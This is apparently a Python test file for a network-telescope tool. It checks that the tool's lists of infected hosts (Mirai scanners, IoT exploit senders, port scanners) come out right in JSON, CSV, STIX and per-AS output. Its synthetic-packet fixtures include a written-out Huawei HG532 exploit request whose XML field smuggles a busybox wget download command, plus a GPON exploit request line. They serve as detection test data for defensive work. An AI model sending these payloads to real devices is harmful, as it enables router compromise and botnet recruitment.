"""test_infected.py: the infected hosts of feeds made by MAKE_DAYS against the definition, computed here from the records of the feed (read by
python3-protobuf); as JSON, as CSV (read by Python and by LibreOffice), as STIX 2.1 (stix_check.py), by AS; what changed since the day before.
"""
import csv
import datetime
import io
import ipaddress
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from zoneinfo import ZoneInfo

import days
import pcap
import feed
import stix_check
import test_report
from judge import Verdict, run
from reference_day import USES

MAKER = os.environ.get("MAKE_DAYS", "")
RULES = test_report.rules_of()
DATE = 20500
MOST = 12  # addresses reached are counted up to here, where it says "or more"
COLUMNS = ("timestamp protocol src_ip src_port src_asn src_geo src_region src_city src_hostname src_naics src_sector device_vendor device_type "
           "device_model severity dst_ip dst_port dst_asn dst_geo dst_region dst_city dst_hostname dst_naics dst_sector public_source infection "
           "family tag application version event_id count first_seen last_seen addresses_reached change addresses_exact "
           "list_lacks").split()


def exploits(s):
    return sum(n for how, rule, kind, _, n in s.evidence
               if how == "payload" and kind in ("tcp_syn", "tcp_data") and RULES.by_id.get(rule, ("", "", False))[2])


def rules_sent(s, port):
    """[{"rule", "packets"}] of its exploits over TCP: first that of the last evidence packet's port, then most packets first."""
    sent, there = {}, {}
    for how, rule, kind, to, n in s.evidence:
        if how == "payload" and kind in ("tcp_syn", "tcp_data") and RULES.by_id.get(rule, ("", "", False))[2]:
            sent[rule] = sent.get(rule, 0) + n
            there[rule] = there.get(rule, 0) + n * (to == port)
    first = min(sent, key=lambda rule: (-there[rule], -sent[rule], rule))
    rest = sorted(set(sent) - {first}, key=lambda rule: (-sent[rule], rule))
    return [{"rule": rule, "packets": sent[rule]} for rule in [first, *rest][:8]]


def scans(s):
    """Whether the source uses a scanner's tool."""
    for tool, (least, permille) in USES.items():
        n = s.tools.get(tool, 0)
        whole = s.packets if tool == "zmap" else s.kinds.get("tcp_syn", 0)
        if tool not in ("mirai", "hajime", "mirai_variant") and n >= least and n * 1000 >= whole * permille:
            return True
    return False


def judge(record, s, classes, high=False):
    """"mirai", "payload", "ports" or None, by the definition."""
    tcp = s.kinds.get("tcp_syn", 0) + s.kinds.get("tcp_data", 0)
    if tcp == 0 or s.acknowledged or s.bogon:
        return None
    reach = list(record.reach) or [0, 0, 0, 0]
    reached, mirai = (reach[1], reach[3]) if high else (reach[0], reach[2])
    if s.tools.get("mirai", 0) >= 3 and mirai >= 2:
        return "mirai"
    if exploits(s):
        return "payload"
    strict = all((rule := RULES.iot.get(("udp" if kind == "udp" else "tcp", port))) and rule[2] == "strict" for kind, port in s.ports)
    if reached >= 10 and strict and not record.unlisted_ports and not scans(s) and classes.of.get(s.address) != "survey":
        return "ports"
    return None


def expected(folder):
    """{date: ({address: (reason, record)}, undecided)}"""
    found, begin, records = {}, None, []
    for segment in feed.read(folder).values():
        for record in segment:
            body = record.WhichOneof("body")
            if body == "day_begin":
                begin, records = record.day_begin, []
            elif body == "source_day":
                records.append(record.source_day)
            elif body == "day":
                sources = [days.Source(r) for r in records]
                classes = days.Classes(sources, begin.settings, sum(t.ipv4 for t in begin.facts.telescopes), RULES)
                hosts, undecided = {}, 0
                for r, s in zip(records, sources):
                    reason = judge(r, s, classes)
                    undecided += reason is None and judge(r, s, classes, high=True) is not None
                    if reason:
                        hosts[str(ipaddress.ip_address(r.address))] = (reason, r, s)
                found[record.day.facts.date] = (hosts, undecided)
    return found


def time_text(ns, zone):
    whole = datetime.datetime.fromtimestamp(ns // 10**9, ZoneInfo(zone))
    text = whole.isoformat()
    return f"{text[:19]}.{ns % 10**9:09}"[:26] + text[19:]


def evidence(reason, r):
    """(time, source port, destination port, protocol) of the last evidence packet."""
    if reason == "ports":
        return (r.first_ns + r.lasted_ns - r.tcp_before_ns, r.tcp_ports >> 16, r.tcp_ports & 65535, "tcp") if r.tcp_ports else None
    return r.evidence_ns, r.evidence_src_port, r.evidence_dst_port, ["", "tcp", "udp"][r.evidence_proto]


def check_json(v, name, folder, date, zone, want):
    rc, out, err = run("infected", folder, "--format", "json", "--date", date_text(date))
    v.equal(rc, 0, f"{name}: exit {err}")
    lines = [json.loads(line) for line in out.decode().splitlines()]
    heading, rows = lines[0], [r for r in lines[1:] if r["change"] != "gone"]
    v.check("not devices" in heading["heading"], f"{name}: the heading")
    hosts, undecided = want[date]
    before = want.get(date - 1)
    v.equal([r["address"] for r in rows],
            sorted(hosts, key=lambda a: (ipaddress.ip_address(a).version, ipaddress.ip_address(a))), f"{name}: hosts")
    v.equal(heading["lower_bound"], undecided > 0, f"{name}: lower_bound")
    v.equal((heading["exact"], heading["damaged"]), (not heading["lacks"], 0), f"{name}: exact")
    v.equal("undecided" in heading["lacks"], undecided > 0, f"{name}: lacks")
    v.equal((heading["hosts"], heading["confirmed"], heading["undecided"]),
            (len(hosts), sum(reason != "ports" for reason, *_ in hosts.values()), undecided), f"{name}: counts")
    for row in rows:
        reason, r, s = hosts[row["address"]]
        change = None if before is None else "continuing" if row["address"] in before[0] else "new"
        last = evidence(reason, r)
        v.equal((row["reason"], row["change"], row["first"], row["last"], row["asn"], row["country"], row["packets"], row["addresses_reached"]),
                (reason, change, time_text(r.first_ns, zone), time_text(r.first_ns + r.lasted_ns, zone), s.asn, s.country,
                 s.kinds.get("tcp_syn", 0) + s.kinds.get("tcp_data", 0), r.reach[0]), f"{name}: {row['address']}")
        reach = list(r.reach) or [0, 0]
        v.equal(row["addresses_exact"], 0 < reach[0] == reach[1] < MOST, f"{name}: {row['address']}: exact")
        rules = rules_sent(s, r.evidence_dst_port if r.evidence_proto == 1 else None) if reason == "payload" else None
        v.equal((row.get("rules"), row.get("rule")), (rules, rules and rules[0]["rule"]), f"{name}: {row['address']}: rules")
        v.equal((row.get("evidence_time"), row.get("src_port"), row.get("dst_port"), row.get("protocol")),
                (time_text(last[0], zone), *last[1:]) if last else (None,) * 4, f"{name}: {row['address']}: last evidence")
    if before is not None:
        gone = [r["address"] for r in lines[1:] if r["change"] == "gone"]
        v.equal(sorted(gone), sorted(set(before[0]) - set(hosts)), f"{name}: gone")
        v.equal((heading["new"], heading["gone"]), (len(set(hosts) - set(before[0])), len(gone)), f"{name}: changes")
    return rows


def date_text(date):
    return str(datetime.date(1970, 1, 1) + datetime.timedelta(date))


def check_csv(v, name, text, rows):
    table = list(csv.reader(io.StringIO(text, newline="")))
    v.equal(table[0], COLUMNS, f"{name}: columns")
    v.equal(len(table) - 1, len(rows), f"{name}: rows")
    for line, row in zip(table[1:], rows):
        cells = dict(zip(COLUMNS, line, strict=True))
        v.equal((cells["src_ip"], cells["timestamp"], cells["src_port"], cells["dst_port"], cells["protocol"], cells["dst_ip"], cells["severity"],
                 cells["count"], cells["change"]),
                (row["address"], row.get("evidence_time", ""), str(row.get("src_port", "")), str(row.get("dst_port", "")),
                 row.get("protocol", "tcp"), "", "high" if row["state"] == "confirmed" else "medium", str(row["packets"]), row["change"] or ""),
                f"{name}: {cells['src_ip']}")
        v.equal((cells["addresses_reached"], cells["addresses_exact"]), (str(row["addresses_reached"]), str(row["addresses_exact"]).lower()),
                f"{name}: {cells['src_ip']}: addresses reached")


def check_office(v, path, rows):
    """LibreOffice opens it with the right columns."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if not office:
        print("not run: LibreOffice, since it is not installed (libreoffice-calc-nogui)")
        return
    with tempfile.TemporaryDirectory() as folder:
        env = {**os.environ, "HOME": folder}
        done = subprocess.run([office, "--headless", f"-env:UserInstallation=file://{folder}/profile", "--convert-to",
                               "fods", "--outdir", folder, path], env=env, capture_output=True, text=True, timeout=240, check=False)
        made = os.path.join(folder, os.path.basename(path).rsplit(".", 1)[0] + ".fods")
        if not v.check(os.path.exists(made), f"LibreOffice made nothing: {done.stderr[:300]}"):
            return
        import xml.etree.ElementTree as tree
        ns = {"t": "urn:oasis:names:tc:opendocument:xmlns:table:1.0", "x": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
        sheet = tree.parse(made).getroot().find(".//t:table", ns)
        table = []
        for row in sheet.findall(".//t:table-row", ns):
            cells = []
            for cell in row.findall("t:table-cell", ns):
                repeated = int(cell.get(f"{{{ns['t']}}}number-columns-repeated", "1"))
                cells += ["".join(p.itertext()) if (p := cell.find("x:p", ns)) is not None else ""] * min(repeated, 64)
            if any(cells):
                table.append(cells)
        v.equal(table[0][:len(COLUMNS)], COLUMNS, "LibreOffice: columns")
        v.equal(len(table) - 1, len(rows), "LibreOffice: rows")
        at = COLUMNS.index("src_ip")
        v.equal([line[at] for line in table[1:]], [row["address"] for row in rows], "LibreOffice: addresses")
        at = COLUMNS.index("dst_port")
        v.equal([line[at] for line in table[1:]], [str(row.get("dst_port", "")) for row in rows], "LibreOffice: ports")


def check_stix(v, name, text, rows):
    bundle = json.loads(text)
    for line in stix_check.wrong(bundle):
        v.check(False, f"{name}: {line}")
    by_type = {}
    for o in bundle["objects"]:
        by_type.setdefault(o["type"], []).append(o)
    addresses = [o["value"] for kind in ("ipv4-addr", "ipv6-addr") for o in by_type.get(kind, [])]
    v.equal(addresses, [row["address"] for row in rows], f"{name}: addresses")
    v.equal(len(by_type.get("observed-data", [])), len(rows), f"{name}: observed")
    traffic = [(o["src_port"], o["dst_port"]) for o in by_type.get("network-traffic", [])]
    v.equal(traffic, [(row["src_port"], row["dst_port"]) for row in rows if "src_port" in row], f"{name}: traffic")
    v.check(all("dst_ref" not in o for o in by_type.get("network-traffic", [])), f"{name}: a destination")
    v.equal([[text for text in o["labels"] if text.startswith("addresses-reached:")] for o in by_type.get("observed-data", [])],
            [[f"addresses-reached:{row['addresses_reached']}{'' if row['addresses_exact'] else '-or-more'}"] if row["addresses_reached"] else []
             for row in rows], f"{name}: addresses reached")
    sighted = [ref for o in by_type.get("sighting", []) for ref in o["observed_data_refs"]]
    v.equal(len(sighted), sum(row["state"] == "confirmed" for row in rows), f"{name}: sightings")


def check_by_as(v, folder, rows, where):
    rc, out, err = run("infected", folder, "--format", "csv", "--per-as", where)
    v.equal(rc, 0, f"by AS: exit {err}")
    named = {}
    for file in os.listdir(where):
        path = os.path.join(where, file)
        v.equal(stat.S_IMODE(os.stat(path).st_mode), 0o600, f"{file}: mode")
        with open(path, encoding="utf-8", newline="") as f:
            named[file.rsplit("-", 1)[1].split(".")[0]] = [line["src_ip"] for line in csv.DictReader(f)]
    wanted = {}
    for row in rows:
        wanted.setdefault(f"AS{row['asn']}" if row["asn"] else "unknown", []).append(row["address"])
    v.equal({name: hosts for name, hosts in named.items() if hosts}, wanted, "by AS: hosts")
    v.equal(stat.S_IMODE(os.stat(where).st_mode), 0o700, "by AS: the folder's mode")


def check_words(v, folder, empty):
    for words, rc, says in ((["infected"], 2, "name at least one feed"),
                            (["infected", folder, "--format", "xml"], 2, "none of text, csv, json, stix"),
                            (["infected", folder, "--date", "2001-01-01"], 2, "has no day 2001-01-01"),
                            (["infected", folder, "--date", "soon"], 2, "--date"),
                            (["infected", folder, "--per-as", "/tmp/x"], 2, "files for ISPs"),
                            (["infected", empty], 2, "has no source days")):
        got, _, err = run(*words)
        v.check(got == rc and says in err, f"{words}: {got} {err}")


def anonymised(v, folder, where):
    key = os.path.join(where, "key")
    with open(key, "w", encoding="ascii") as f:
        f.write("0123456789abcdef" * 4)
    os.chmod(key, 0o600)
    rc, _, err = run("export", folder, "-o", os.path.join(where, "anon"), "--anonymise", key)
    v.equal(rc, 0, f"export: {err}")
    rc, _, err = run("infected", os.path.join(where, "anon"))
    v.check(rc == 2 and "anonymised" in err, f"anonymised: {rc} {err}")


# ---- from packets

START = 1767225600  # 2026-01-01T00:00:00Z


def number(address):
    return int(ipaddress.ip_address(address))


def planted():
    """[(ns, source, destination, port, source port, is Mirai's, payload)] of two days: at, below and beyond each threshold."""
    found = []

    def put(day, seconds, source, host, port, sport, mirai=False, body=b""):
        found.append(((START + day * 86400 + seconds) * 10**9 + host, source, f"198.51.100.{host}", port, sport, mirai, body))

    exploit = (b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nAuthorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\"\r\n\r\n"
               b"<NewStatusURL>$(/bin/busybox wget -g 8.8.4.4 -l /tmp/x -r /m)</NewStatusURL>")
    for day in (0, 1):
        for n in range(3):
            put(day, 10 + n * 4000, "20.0.0.1", n + 1, 23, 4000 + n, True)
            put(day, 20 + n * 4000, "20.0.0.2", 7, 23, 4100 + n, True)  # one address
            put(day, 25 + n, "20.0.0.9", n + 1, 80, 4100 + n, True)  # on another port
        for n in range(2):
            put(day, 30 + n, "20.0.0.3", n + 1, 23, 4200, True)  # two packets
        for n in range(10):
            put(day, 40 + n * 7000, "20.0.0.4", n + 1, (23, 2323)[n % 2], 4300 + n)
            put(day, 65 + n, "20.0.0.7", n % 9 + 1, 23, 4500)  # nine addresses
        for n in range(40):
            put(day, 100 + n * 1000, "20.0.0.10", n % 30 + 1, 23, 4600 + n)  # beyond what is counted
            put(day, 110 + n, "20.0.0.6", n + 1, 22 if n == 5 else 23, 4500)  # another port
    gpon = b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n"
    for n in range(4):
        put(1, 50 + n, "20.0.0.11", n + 1, 80, 5000 + n, body=gpon)
    put(1, 60, "20.0.0.11", 9, 37215, 5010, body=exploit)
    put(1, 90, "20.0.0.8", 3, 37215, 5000, body=exploit)
    put(1, 3000, "20.0.0.8", 4, 37215, 5001)
    return sorted(found)


def of_packets(packets):
    """{date: {source: (reason, last evidence, addresses reached)}}, from the packets alone."""
    days_of = {}
    for ns, source, dst, port, sport, mirai, body in packets:
        days_of.setdefault(ns // (86400 * 10**9), {}).setdefault(source, []).append((ns, dst, port, sport, mirai, body))
    strict = lambda port: (rule := RULES.iot.get(("tcp", port))) is not None and rule[2] == "strict"
    found = {}
    for date, sources in days_of.items():
        for source, rows in sources.items():
            shows = [r for r in rows if r[4]]
            attack = [r for r in rows if r[5]]
            reached = {r[1] for r in rows if r[4] or strict(r[2])}
            if len(shows) >= 3 and len({r[1] for r in shows}) >= 2:
                reason, last = "mirai", max(shows)
            elif attack:
                reason, last = "payload", max(attack)
            elif len(reached) >= 10 and all(strict(r[2]) for r in rows):
                reason, last = "ports", max(rows)
            else:
                continue
            found.setdefault(date, {})[source] = (reason, (last[0], last[3], last[2]), min(len(reached), 12))
    return found


def captured(v, where):
    """From packets to hosts and events, by any number of workers."""
    packets, path = planted(), os.path.join(where, "c.pcap")
    frames = []
    for ns, source, dst, port, sport, mirai, body in packets:
        tcp = pcap.tcp(sport, port, pcap.ACK | pcap.PSH if body else pcap.SYN, seq=number(dst) if mirai else 77, body=body)
        frames.append((ns, pcap.ether(pcap.ip4(source, dst, 6, tcp))))
    sizes = [(ns, packet[1], len(frame)) for packet, (ns, frame) in zip(packets, frames)]
    pcap.write(path, frames)
    want = of_packets(packets)
    v.equal({reason for hosts in want.values() for reason, *_ in hosts.values()}, {"mirai", "payload", "ports"}, "planted reasons")
    for words in (["-j", "1"], ["-j", "3", "--batch", "5"], ["--window", "600s"]):
        folder = os.path.join(where, "run" + "".join(words))
        rc, _, err = run("replay", path, "-o", folder, "--events", "infected", "--telescope", "198.51.100.0/24", "--telescope-id", "t", *words)
        v.equal((rc, run("verify", folder)[0]), (0, 0), f"replay {words}: {err}")
        for date, hosts in want.items():
            rows = [json.loads(line) for line in run("infected", folder, "--format", "json", "--date", date_text(date))[1].splitlines()[1:]]
            v.equal({r["address"]: (r["reason"], (r["evidence_time"], r["src_port"], r["dst_port"], r["protocol"]), r["addresses_reached"])
                     for r in rows if r["change"] != "gone"},
                    {a: (reason, (time_text(last[0], "UTC"), last[1], last[2], "tcp"), reach) for a, (reason, last, reach) in hosts.items()},
                    f"replay {words}: hosts of {date}")
        events = [json.loads(line) for line in run("events", folder, "--type", "infected", "--json")[1].splitlines()]
        v.equal(sorted((e["infected"]["date"], e["address"], e["infected"]["reason"], e["infected"]["new"]) for e in events),
                sorted((date_text(date), a, hosts[a][0], a not in want[date - 1] if date - 1 in want else None)
                       for date, hosts in want.items() for a in hosts),
                f"replay {words}: events")
        v.equal({e["address"]: [(x["rule"], x["packets"]) for x in e["evidence"]] for e in events if e["evidence"]},
                {"20.0.0.8": [("iot-huawei-hg532-exploit", 1)],
                 "20.0.0.11": [("iot-huawei-hg532-exploit", 1), ("iot-gpon-dasan", 4)]}, f"replay {words}: each rule with its own packets")
        v.equal({(e["infected"]["date"], e["address"]): e["bytes"] for e in events},
                {(date_text(date), a): sum(octets for ns, source, octets in sizes if source == a and ns // (86400 * 10**9) == date)
                 for date, hosts in want.items() for a in hosts}, f"replay {words}: bytes")
        said = " ".join(run("events", folder, "--type", "infected", "--top", "100")[1].decode().split())
        v.equal(said.count(", new"), sum(e["infected"]["new"] is True for e in events), f"replay {words}: said to be new")
        rows = [line.split() for line in run("infected", folder, "--date", date_text(min(want)))[1].decode().splitlines()]
        v.check(any(row[:1] == ["unknown"] and row[3] == "-" for row in rows), f"replay {words}: nobody is told as new on the first day")
    rc, _, err = run("infected", folder, "--format", "csv")
    v.equal((rc, err), (0, ""), "all are counted: nothing to say")
    uncounted(v, path, where)


def uncounted(v, path, where):
    """A feed that was made without `--events infected`: who might be missing is said, wherever the list goes."""
    folder = os.path.join(where, "uncounted")
    v.equal(run("replay", path, "-o", folder, "--telescope", "198.51.100.0/24")[0], 0, "uncounted: replay")
    rc, out, _ = run("infected", folder)
    said = " ".join(out.decode().split())
    v.check(rc == 0 and -1 < said.find("with --events infected") < said.find("confirmed (Mirai"), f"uncounted: text: {said[:300]}")
    for words in (["--format", "csv"], ["--format", "stix"], ["--format", "json"],
                  ["--format", "csv", "--per-as", os.path.join(where, "uncounted-as")]):
        rc, _, err = run("infected", folder, *words)
        v.check(rc == 0 and "with --events infected" in err, f"uncounted: {words}: {rc} {err}")


def check_pieces(v, where):
    """A day cut at noon and merged: who is listed is listed of the whole, too, and nobody of the whole is missing but among the
    undecided; the result says that it is a lower bound. Cut at midnight nothing differs."""
    start, hour, frames = DATE * 86400 * 10**9, 3600 * 10**9, []

    def put(hours, source, host, mirai=False):
        at = start + int(hours * hour) + len(frames) * 1000
        seq = int(ipaddress.ip_address(f"198.51.100.{host}")) if mirai else 7
        frames.append((at, pcap.ether(pcap.ip4(source, f"198.51.100.{host}", 6, pcap.tcp(4000, 23, seq=seq)))))

    for host in range(1, 13):
        put(2 if host < 7 else 20, "20.0.0.1", host)  # addresses over the day: suspected of the whole alone
        put(2, "20.0.0.2", host)  # of a piece, too
        for hours in (2, 20):
            put(hours, "20.0.0.3", host % 6 + 1)  # the same six twice: nobody
        put(26, "20.0.0.6", host)  # the next day
    for source, hours in (("20.0.0.4", (2, 2, 20)), ("20.0.0.5", (2, 20, 20))):
        for host, at in zip((1, 2, 2), hours):
            put(at, source, host, mirai=True)
    frames.sort()
    lists = {}
    for name, cuts in {"whole": (), "noon": (12,), "midnight": (24,)}.items():
        edges = [start, *(start + cut * hour for cut in cuts), start + 48 * hour]
        feeds = []
        for begin, end in zip(edges, edges[1:]):
            path = os.path.join(where, f"{name}{begin}.pcap")
            pcap.write(path, [f for f in frames if begin <= f[0] < end])
            feeds.append(path + ".feed")
            v.equal(run("replay", path, "-o", feeds[-1], "--events", "infected", "--telescope", "198.51.100.0/24")[0], 0, f"{name}: replay")
        merged = os.path.join(where, name + ".merged")
        v.equal(run("merge", *feeds, "-o", merged)[0], 0, f"{name}: merge")
        lists[name] = lines = [json.loads(line) for line in run("infected", merged, "--format", "json", "--date", date_text(DATE))[1].splitlines()]
        for words in ([], ["--format", "csv"], ["--format", "stix"]):
            rc, out, err = run("infected", merged, "--date", date_text(DATE), *words)
            said = "lower bound" in " ".join((out.decode() + err).split())
            v.equal((rc, said), (0, lines[0]["lower_bound"]), f"{name} {words}: says that it is a lower bound")
    listed = {name: {row["address"]: row["state"] for row in lines[1:]} for name, lines in lists.items()}
    v.equal(listed["whole"], {"20.0.0.1": "suspected", "20.0.0.2": "suspected", "20.0.0.4": "confirmed", "20.0.0.5": "confirmed"}, "the whole")
    v.equal((listed["midnight"], lists["midnight"][0]["undecided"]), (listed["whole"], 0), "cut at midnight")
    v.equal(listed["noon"], {"20.0.0.2": "suspected", "20.0.0.4": "confirmed"}, "cut at noon")
    v.equal(lists["noon"][0]["undecided"], 3, "20.0.0.1, 20.0.0.5, and 20.0.0.3, who is nobody")


def said_lacks(v, name, folder, *words):
    """What a list lacks, by each form: all say the same."""
    said = {}
    for form in ("text", "json", "csv", "stix"):
        rc, out, err = run("infected", folder, "--format", form, *words)
        v.check(rc in (0, 3), f"{name}: {form}: {rc} {err}")
        said[form] = out.decode()
    heading = json.loads(said["json"].splitlines()[0])
    rows = list(csv.DictReader(io.StringIO(said["csv"], newline="")))
    v.equal({row["list_lacks"] for row in rows}, {";".join(heading["lacks"])}, f"{name}: CSV")
    bundle = json.loads(said["stix"])
    for line in stix_check.wrong(bundle):
        v.check(False, f"{name}: {line}")
    notes = [o for o in bundle["objects"] if o["type"] == "note"]
    lacks = heading["lacks"] + (["before"] if heading["before_exact"] is False else [])
    v.equal([o["labels"] for o in notes], [lacks] if lacks else [], f"{name}: STIX")
    text = " ".join(said["text"].split())
    v.equal("Source days of this day are damaged" in text, "damaged" in lacks, f"{name}: text says that it is damaged")
    v.equal("The list of the day before is not exact" in text, "before" in lacks, f"{name}: text says that of the day before")
    return heading


def check_damage(v, folder, where):
    """A source day of which a byte was altered is missing on its day: every form says so, of the day behind it, too, and what is merged of it."""
    broken = shutil.copytree(folder, os.path.join(where, "broken"))
    path = next(p for p in feed.segments(broken) if f"{date_text(DATE + 2).replace('-', '')}-sources-" in p)
    with open(path, "r+b") as f:
        f.seek(os.path.getsize(path) // 2)
        byte = f.read(1)[0]
        f.seek(-1, os.SEEK_CUR)
        f.write(bytes([byte ^ 4]))
    date = lambda n: ("--date", date_text(DATE + n))
    heading = said_lacks(v, "whole", folder, *date(2))
    v.equal((heading["damaged"], "damaged" in heading["lacks"]), (0, False), "whole: damage")
    heading = said_lacks(v, "damaged", broken, *date(2))
    v.equal((heading["exact"], heading["damaged"], "damaged" in heading["lacks"]), (False, 1, True), "damaged")
    heading = said_lacks(v, "the day behind it", broken, *date(3))
    v.equal(("damaged" in heading["lacks"], heading["before_exact"]), (False, False), "the day behind a damaged one")
    merged = os.path.join(where, "broken.merged")
    v.equal(run("merge", broken, "-o", merged)[0], 3, "merge of a damaged feed")
    heading = said_lacks(v, "merged", merged, *date(2))
    v.equal((heading["exact"], heading["damaged"], heading["given_up"]["damaged"] > 0), (False, 0, True), "what is merged of a damaged feed")
    rc, _, err = run("infected", merged, "--format", "csv", *date(2))
    v.check(rc == 0 and "damaged" in err, f"merged: said on stderr, too: {rc} {err}")


def main():
    if not MAKER:
        print("not run: MAKE_DAYS names no program")
        return 77
    v = Verdict()
    with tempfile.TemporaryDirectory() as where:
        folder, empty = os.path.join(where, "feed"), os.path.join(where, "empty")
        subprocess.run([MAKER, folder, str(DATE), "4", "3"], check=True)
        subprocess.run([MAKER, empty, str(DATE), "2", "3", "no-sources"], check=True)
        want = expected(folder)
        v.check(all(hosts for hosts, _ in want.values()), "there are hosts on each day")
        reasons = {reason for hosts, _ in want.values() for reason, *_ in hosts.values()}
        v.equal(reasons, {"mirai", "payload", "ports"}, "reasons that the feed has")
        for date in sorted(want):
            rows = check_json(v, date_text(date), folder, date, "UTC", want)
        rc, out, _ = run("infected", folder, "--format", "csv")
        check_csv(v, "csv", out.decode(), rows)
        path = os.path.join(where, "infected.csv")
        with open(path, "wb") as f:
            f.write(out)
        check_office(v, path, rows)
        rc, out, _ = run("infected", folder, "--format", "stix")
        check_stix(v, "stix", out.decode(), rows)
        v.equal(run("infected", folder, "--format", "stix")[1], out, "the same bundle again")
        check_pieces(v, where)
        check_damage(v, folder, where)
        rc, out, _ = run("infected", folder)
        v.check(rc == 0 and b"not devices" in out and b"By AS" in out, f"text: {out[:200]}")
        check_by_as(v, folder, rows, os.path.join(where, "isp"))
        check_words(v, folder, empty)
        anonymised(v, folder, where)
        captured(v, where)
    return v.finish()


if __name__ == "__main__":
    sys.exit(main())
